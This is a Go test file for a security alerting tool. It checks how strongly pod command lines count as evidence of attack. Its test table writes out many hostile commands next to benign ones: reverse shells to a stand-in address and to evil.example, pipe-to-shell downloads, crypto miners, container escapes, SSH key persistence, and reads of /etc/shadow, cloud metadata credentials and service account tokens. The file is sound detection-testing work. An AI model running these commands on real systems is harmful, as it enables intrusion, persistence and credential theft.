package content

import (
	"strings"
	"testing"

	"github.com/tocsin-dev/tocsin/internal/playbook"
)

// ran is a sensor's alert about a command in a pod, with what memory says of its details.
func ran(command string, details fields, usual bool) evidence {
	e := sensed(playbook.Answers{"details": details, "recurrence": recurrence(984, 0)})
	if usual {
		e.answers["recurrence"] = recurrence(984, 100)
	}
	e.alert.Spec.Attributes = map[string]string{"proc.cmdline": command}
	return e
}

// TestCommands: what hardly anybody runs but an attacker weighs by what it is for, and what
// everybody runs every day weighs nothing.
func TestCommands(t *testing.T) {
	tests := map[string]struct {
		command string
		want    int32
	}{
		"a reverse shell of bash":        {"bash -i >& /dev/tcp/198.51.100.7/443 0>&1", 11},
		"one within another shell":       {`sh -c bash -c "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"`, 11},
		"one of another descriptor":      {"bash -c exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | sh", 11},
		"one of netcat":                  {"nc -e /bin/sh 198.51.100.7 4444", 11},
		"one of socat":                   {"socat tcp:198.51.100.7:443 exec:/bin/sh", 11},
		"one of PHP":                     {"php -r $s=fsockopen('198.51.100.7',443);exec('sh <&3 >&3');", 11},
		"a script from an address":       {"sh -c curl -fsSL http://198.51.100.7/a.sh | bash", 11},
		"a script of somebody":           {"sh -c curl -fsSL https://evil.example/a.sh | bash", 8},
		"a script read by Python":        {"sh -c wget -qO- https://evil.example/a | python3", 8},
		"a miner":                        {"./xmrig -o pool.example:443 --donate-level 1", 11},
		"a miner that is renamed":        {"/tmp/.x/kworker -a rx/0 -o stratum+tcp://pool.example:3333", 11},
		"a program in memory":            {"curl -s https://evil.example/a -o /dev/shm/a", 8},
		"a hidden command":               {"sh -c echo aWQK | base64 -d | sh", 8},
		"the node's processes":           {"nsenter -t 1 -m -u -i -n sh", 8},
		"the node's files":               {"chroot /host bash", 8},
		"a key for later":                {"sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys", 8},
		"a way back in":                  {"ssh -N -R 0.0.0.0:2222:localhost:22 a@198.51.100.7", 10},
		"a scan of a network":            {"nmap -sT -p 443,10250 10.0.0.0/16", 10},
		"tracks that are covered":        {"bash -c history -c", 10},
		"the passwords":                  {"cat /etc/shadow", 10},
		"the identity of a node":         {"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node", 10},
		"a scan of a host":               {"nmap -p 443 web", 6},
		"the environment of others":      {"cat /proc/1/environ", 6},
		"keys on the disk":               {"find / -name id_rsa -o -name id_ed25519", 6},
		"the token of the pod":           {"cat /var/run/secrets/kubernetes.io/serviceaccount/token", 6},
		"an identity of the cloud":       {"python3 -c open('http://169.254.169.254/latest/meta-data/')", 6},
		"one of socat, as it is written": {"socat TCP:198.51.100.7:443 EXEC:/bin/sh,pty", 11},
		"one of ncat":                    {"ncat 198.51.100.7 443 --exec /bin/bash", 11},
		"one of Perl":                    {"perl -e use Socket;socket(S,2,1,6);exec('/bin/sh -i');", 11},
		"a script that is substituted":   {`bash -c "$(curl -fsSL https://evil.example/a)"`, 8},
		"a line for later":               {"sh -c (crontab -l; cat /x) | crontab -", 8},
		"a probe of a port":              {"bash -c exec 3<>/dev/tcp/127.0.0.1/8080", 0},
		"a probe of itself":              {"curl -sf http://127.0.0.1:8080/healthz", 0},
		"a probe of a neighbour":         {"wget --spider -q http://192.168.1.1/", 0},
		"a probe of PHP":                 {"php -r fsockopen('db',3306);", 0},
		"a history of releases":          {"kubectl rollout history -n shop deployment/web", 0},
		"a signal":                       {"pkill -HUP falco", 0},
		"a tool of a build":              {"apk add --no-cache nmap=7.95 curl", 0},
		"an exporter":                    {"xmrig-exporter --port 9100", 0},
		"a probe over HTTP":              {"sh -c wget -q --spider http://localhost:8080/healthz", 0},
		"a probe of Postgres":            {"pg_isready -U postgres -h 127.0.0.1 -p 5432", 0},
		"a backup":                       {"pg_dump -Fc -h db -U backup -f /backup/shop.dump shop", 0},
		"packages of a build":            {"apt-get install -y --no-install-recommends ca-certificates curl", 0},
		"packages of Python":             {"pip install --no-cache-dir -r requirements.txt", 0},
		"an entry point":                 {"/bin/sh /docker-entrypoint.sh nginx -g daemon off;", 0},
		"a shell":                        {"bash -il", 0},
		"a console":                      {"bash -lc bundle exec rails console", 0},
		"a release that is fetched":      {"curl -fsSLO https://get.helm.sh/helm-v3.18.0-linux-amd64.tar.gz", 0},
		"a search for what others are":   {"grep -rlF -e stratum+tcp:// -e donate.v2.xmrig.com /host/var", 0},
		"keys that are handed out":       {"install -m 600 -o gls /run/keys/gls.pub /home/gls/.ssh/authorized_keys", 0},
		"a copy over SSH":                {"scp -i /keys/backup -P 22 shop.dump backup@backup.example:/backup/", 0},
		"a repository over SSH":          {"ssh -i /dev/shm/184 -o StrictHostKeyChecking=yes -p 443 git@ssh.example git-upload-pack 'a/b.git'", 0},
		"Java":                           {"java -XX:MaxRAMPercentage=75 -Drandom.seed=1 -jar /app/app.jar", 0},
		"logs that are rotated":          {"logrotate -f /etc/logrotate.conf", 0},
		"nothing":                        {"", 0},
	}
	universal, err := playbook.Universal("cluster", shipped(t))
	if err != nil {
		t.Fatal(err)
	}
	weight := func(t *testing.T, e evidence) (sum int32, because string) {
		t.Helper()
		c, _ := investigate(t, []*playbook.Playbook{universal}, e)
		for _, found := range c.Evidence {
			if found.Group == "content" || found.Group == "craft" {
				if found.Weight > sum {
					sum, because = found.Weight, found.Finding
				}
			}
		}
		return sum, because
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			got, because := weight(t, ran(tt.command, details(), false))
			if got != 10*tt.want || tt.want > 0 && !strings.HasSuffix(because, tt.command) {
				t.Errorf("%q weighs %d: %q, want %d dB", tt.command, got, because, tt.want)
			}
			if got, because := weight(t, ran(tt.command, details(), true)); got != 0 {
				t.Errorf("what is run every day weighs %d: %q", got, because)
			}
			// What is like it, or differs from it, is not what is run every day.
			for _, of := range []string{"names", "near", "varied"} {
				other := details()
				other[of] = []any{"proc.cmdline"}
				if of != "varied" {
					other[map[string]string{"names": "values", "near": "nearly"}[of]] = []any{tt.command}
				}
				if got, because := weight(t, ran(tt.command, other, true)); got != 10*tt.want {
					t.Errorf("in %s it weighs %d: %q, want %d dB", of, got, because, tt.want)
				}
			}
		})
	}
}
